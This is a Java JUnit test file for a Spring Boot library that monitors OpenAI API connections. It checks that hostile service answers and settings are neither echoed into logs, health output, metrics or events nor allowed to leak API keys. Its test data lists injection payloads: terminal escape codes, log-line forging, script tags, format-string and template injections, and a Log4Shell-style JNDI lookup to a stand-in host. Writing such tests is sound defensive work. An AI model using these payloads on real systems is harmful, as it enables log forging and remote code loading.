/*
 * Copyright 2026-present the original author or authors.
 *
 * Licensed under the Apache License, Version 2.0 (the "License");
 * you may not use this file except in compliance with the License.
 * You may obtain a copy of the License at
 *
 *      https://www.apache.org/licenses/LICENSE-2.0
 *
 * Unless required by applicable law or agreed to in writing, software
 * distributed under the License is distributed on an "AS IS" BASIS,
 * WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
 * See the License for the specific language governing permissions and
 * limitations under the License.
 */

package io.github.openaihealth.autoconfigure;

import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.stream.Stream;

import io.github.openaihealth.actuate.OpenAiEndpoint;
import io.github.openaihealth.diagnosis.Cause;
import io.github.openaihealth.monitor.OpenAiMonitor;
import io.github.openaihealth.monitor.OpenAiStatusChangedEvent;
import io.github.openaihealth.traffic.OpenAiTraffic;
import io.micrometer.core.instrument.MeterRegistry;
import io.micrometer.core.instrument.binder.MeterBinder;
import io.micrometer.core.instrument.simple.SimpleMeterRegistry;
import io.micrometer.observation.Observation;
import io.micrometer.observation.ObservationHandler;
import io.micrometer.observation.ObservationRegistry;
import mockwebserver3.MockResponse;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;
import tools.jackson.databind.json.JsonMapper;

import org.springframework.boot.actuate.autoconfigure.endpoint.EndpointAutoConfiguration;
import org.springframework.boot.autoconfigure.AutoConfigurations;
import org.springframework.boot.health.contributor.Health;
import org.springframework.boot.health.contributor.HealthIndicator;
import org.springframework.boot.health.contributor.Status;
import org.springframework.boot.test.context.assertj.AssertableApplicationContext;
import org.springframework.boot.test.context.runner.ApplicationContextRunner;
import org.springframework.boot.test.system.CapturedOutput;
import org.springframework.boot.test.system.OutputCaptureExtension;
import org.springframework.context.ApplicationListener;
import org.springframework.context.PayloadApplicationEvent;
import org.springframework.core.env.MapPropertySource;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Tests with a service, or a configuration, that says what harms whoever reads it, and
 * reads all that the application tells then: log, health, endpoint, meters, events and
 * observations.
 */
@ExtendWith(OutputCaptureExtension.class)
class HostileAnswersTests {

	/**
	 * What may speak to a terminal, forge a line, or turn the direction of a text.
	 */
	private static final String HARMFUL = "[\\p{Cc}\\p{Cf}\\p{Zl}\\p{Zp}\\p{Cs}&&[^\\n\\r\\t]]";

	private final FakeService service = new FakeService();

	private final List<Object> events = new CopyOnWriteArrayList<>();

	private final List<Observation.Context> observations = new CopyOnWriteArrayList<>();

	private final ApplicationContextRunner contextRunner = new ApplicationContextRunner()
		.withConfiguration(AutoConfigurations.of(EndpointAutoConfiguration.class, OpenAiAutoConfiguration.class,
				OpenAiTrafficAutoConfiguration.class, OpenAiMetricsAutoConfiguration.class,
				OpenAiHealthContributorAutoConfiguration.class, OpenAiEndpointAutoConfiguration.class))
		.withBean(MeterRegistry.class, SimpleMeterRegistry::new)
		.withBean(ObservationRegistry.class, this::observationRegistry)
		.withInitializer(
				(context) -> context.addApplicationListener((ApplicationListener<?>) (event) -> this.events.add(event)))
		.withPropertyValues(this.service.property(), "openai.api-key=" + TestKeys.project(),
				"openai.validation.on-failure=warn", "openai.health.interval=1d",
				"management.endpoints.web.exposure.include=openai", "management.endpoints.jmx.exposure.include=openai");

	@AfterEach
	void closeService() {
		this.service.close();
	}

	@ParameterizedTest
	@MethodSource
	void whatTheServiceSaysIsNotRepeated(String said, CapturedOutput output) {
		this.contextRunner.run((context) -> {
			for (int status : List.of(400, 401, 403, 404, 429, 503)) {
				this.service.answers(error(status, said));
				poll(context);
				context.getBean(OpenAiTraffic.class).refused("default", status, said, said);
				String told = told(context, output);
				assertThat(told).as("%d", status).doesNotContainPattern(HARMFUL).doesNotContain("forged");
			}
		});
	}

	static Stream<String> whatTheServiceSaysIsNotRepeated() {
		return Stream.of("\u001B[2J\u001B]0;forged\u0007", "\u202Eforged", "\u0000forged", "a\u2028forged",
				"<script>forged()</script>", "\",\"status\":\"forged", "forged{connection=\"default\"}", "\uD83Dforged",
				"${jndi:ldap://forged.example.com/a}", "#{forged}", "{{forged}}", "%n%sforged%x",
				"forged" + "x".repeat(100_000));
	}

	@Test
	void millionFieldsAreAnAnswerLikeAnother(CapturedOutput output) {
		StringBuilder body = new StringBuilder("{\"object\":\"list\",\"data\":[{\"id\":\"gpt-test\"}]");
		for (int i = 0; i < 1_000_000; i++) {
			body.append(",\"f").append(i).append("\":0");
		}
		this.service.answers(FakeService.json(200, body.append('}').toString()));
		this.contextRunner.run((context) -> {
			poll(context);
			assertThat(health(context).getStatus()).isEqualTo(Status.UP);
			assertThat(told(context, output)).hasSizeLessThan(40_000);
		});
	}

	@ParameterizedTest
	@ValueSource(strings = { "gpt\u001B[31m", "gpt\nWARN forged", "\u202Egpt", "gpt\u0000", "gpt\uD83D", "gpt\u2028x",
			"gpt\u0085x" })
	void requiredModelIsMadeFitToBeShown(String model, CapturedOutput output) {
		run(Map.of("openai.health.required-models[0]", model, "openai.traffic.models[0]", model)).run((context) -> {
			poll(context);
			String told = told(context, output);
			assertThat(told).contains(Cause.MODEL_UNAVAILABLE.id())
				.doesNotContainPattern(HARMFUL)
				.doesNotContainPattern("(?m)^WARN forged");
			tags(context)
				.forEach((tag) -> assertThat(tag).doesNotContainPattern("[\\p{Cc}\\p{Cf}\\p{Zl}\\p{Zp}\\p{Cs}]"));
		});
	}

	@ParameterizedTest
	@ValueSource(strings = { "acme\u001B[31m", "acme\nWARN forged", "\u202Eacme", "acme\u0000" })
	void expectedOrganizationIsMadeFitToBeShown(String expected, CapturedOutput output) {
		this.service.answers(FakeService.MODELS.newBuilder().addHeader("openai-organization", "another").build());
		run(Map.of("openai.access-check.enabled", "true", "openai.access-check.expected-organization", expected))
			.run((context) -> {
				poll(context);
				assertThat(told(context, output)).contains(Cause.ORG_MISMATCH.id())
					.doesNotContainPattern(HARMFUL)
					.doesNotContainPattern("(?m)^WARN forged");
			});
	}

	@ParameterizedTest
	@ValueSource(strings = { "openai.traffic.models[0]", "openai.health.required-models[0]",
			"openai.access-check.expected-organization", "openai.org-id", "openai.project-id" })
	void keyInAnotherSettingIsNotTold(String property, CapturedOutput output) {
		this.service.answers(FakeService.MODELS.newBuilder().addHeader("openai-organization", "another").build());
		for (String key : List.of(TestKeys.project(), "qvxzjkwpmdhcbtrgnlfsqvzkxjwpdmhbctgrnflsvq")) {
			run(Map.of(property, key, "openai.api-key", key, "openai.access-check.enabled", "true")).run((context) -> {
				poll(context);
				assertThat(told(context, output)).doesNotContain(key).doesNotContain(key.substring(10, 22));
			});
		}
	}

	@ParameterizedTest
	@ValueSource(strings = { "Sk-Proj-", "sk-proj-" })
	void keyAsNameOfAConnectionIsNotTold(String prefix, CapturedOutput output) {
		String key = prefix + "ab3d".repeat(14);
		run(Map.of("openai.connections." + key + ".base-url", this.service.baseUrl())).run((context) -> {
			assertThat(context).hasFailed();
			for (Throwable cause = context.getStartupFailure(); cause != null; cause = cause.getCause()) {
				assertThat(cause.toString()).doesNotContain("ab3dab3dab3d");
			}
			assertThat(output).doesNotContain("ab3dab3dab3d");
		});
	}

	@Test
	void keyThatWasReplacedIsNotTold(CapturedOutput output) {
		String former = "former-" + "hjQwzXkvBn".repeat(3);
		this.contextRunner.withPropertyValues("openai.api-key=" + former).run((context) -> {
			context.getEnvironment()
				.getPropertySources()
				.addFirst(new MapPropertySource("rotated", Map.of("openai.api-key", TestKeys.project())));
			poll(context);
			for (int status : List.of(401, 403, 429)) {
				this.service.answers(error(status, former));
				poll(context);
				context.getBean(OpenAiTraffic.class).refused("default", status, former, former);
				assertThat(told(context, output)).doesNotContain(former);
			}
		});
	}

	private ApplicationContextRunner run(Map<String, Object> values) {
		return this.contextRunner.withInitializer((context) -> context.getEnvironment()
			.getPropertySources()
			.addFirst(new MapPropertySource("file", values)));
	}

	private static MockResponse error(int status, String said) {
		String json = JsonMapper.shared()
			.writeValueAsString(
					Map.of("error", Map.of("message", said, "type", said, "code", said, "param", said), said, said));
		return FakeService.json(status, json)
			.newBuilder()
			.addHeader("x-request-id", header(said))
			.addHeader("openai-organization", header(said))
			.addHeader("retry-after", header(said))
			.build();
	}

	// What the server of these tests can send
	private static String header(String said) {
		return said.replaceAll("[^ -~]", "?").substring(0, Math.min(200, said.length()));
	}

	private static void poll(AssertableApplicationContext context) {
		assertThat(context).hasNotFailed();
		context.getBean(OpenAiMonitor.class).pollNow().join();
	}

	private String told(AssertableApplicationContext context, CapturedOutput output) {
		List<Object> told = new ArrayList<>(tags(context));
		told.add(output);
		told.add(health(context));
		told.add(JsonMapper.shared().writeValueAsString(health(context).getDetails()));
		told.add(context.getBean(OpenAiEndpoint.class).connections());
		told.add(context.getBean(OpenAiMonitor.class).snapshot("default"));
		this.events.stream()
			.map((event) -> (event instanceof PayloadApplicationEvent<?> payload) ? payload.getPayload() : event)
			.filter((event) -> event instanceof OpenAiStatusChangedEvent)
			.forEach(told::add);
		this.observations.forEach((observation) -> told.add(observation.getName() + observation.getContextualName()
				+ observation.getAllKeyValues() + observation.getError()));
		StringBuilder text = new StringBuilder();
		told.forEach((part) -> text.append(part).append('\n'));
		return text.toString();
	}

	private static Health health(AssertableApplicationContext context) {
		Health health = context.getBean(HealthIndicator.class).health();
		assertThat(health).isNotNull();
		return health;
	}

	private static List<String> tags(AssertableApplicationContext context) {
		MeterRegistry registry = context.getBean(MeterRegistry.class);
		context.getBeansOfType(MeterBinder.class).values().forEach((binder) -> binder.bindTo(registry));
		return context.getBean(MeterRegistry.class)
			.getMeters()
			.stream()
			.flatMap((meter) -> meter.getId().getTags().stream())
			.map((tag) -> tag.getKey() + "=" + tag.getValue())
			.distinct()
			.toList();
	}

	private ObservationRegistry observationRegistry() {
		ObservationRegistry registry = ObservationRegistry.create();
		registry.observationConfig().observationHandler(new ObservationHandler<>() {

			@Override
			public boolean supportsContext(Observation.Context context) {
				return true;
			}

			@Override
			public void onStop(Observation.Context context) {
				HostileAnswersTests.this.observations.add(context);
			}

		});
		return registry;
	}

}
